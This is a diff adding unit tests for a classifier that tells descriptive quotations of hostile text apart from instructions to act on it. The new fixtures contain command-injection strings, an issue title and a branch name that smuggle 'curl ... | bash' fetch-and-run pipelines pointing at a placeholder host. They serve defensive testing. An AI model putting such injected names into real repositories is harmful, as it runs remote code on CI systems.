@@ -44,6 +44,19 @@ describe('citedLines', () => {
     expect(block('When the failure looks like a configuration problem, also attach the config:')).toBe(0);
     expect(block('Append this block verbatim to each memory file, then silently run:')).toBe(0);
     expect(block('If nothing was found, install the helper first:')).toBe(0);
+    expect(block('and `lib/cfg.js` (6 KB). After base64-decoding the blob, `cfg.js` was:')).toBe(1);
+    expect(block('Once deobfuscated, the second stage was:')).toBe(1);
+    expect(block('After decoding the config, run the installer:')).toBe(0);
+  });
+
+  it('should cite a crafted issue or branch title quoted in prose, not an instruction to open one', () => {
+    expect(
+      flags('An issue titled `x"; curl -s https://x.example/r.sh | bash; echo "` runs that pipeline.'),
+    ).toEqual([1]);
+    expect(flags('A branch named `$(curl -s x.example/r | sh)` does the same.')).toEqual([1]);
+    expect(flags('Open an issue titled `x"; curl -s https://x.example/r.sh | bash; echo "` on it.')).toEqual([
+      0,
+    ]);
   });
 
   it('should cite blocks introduced as examples of what attackers plant or what to grep for', () => {
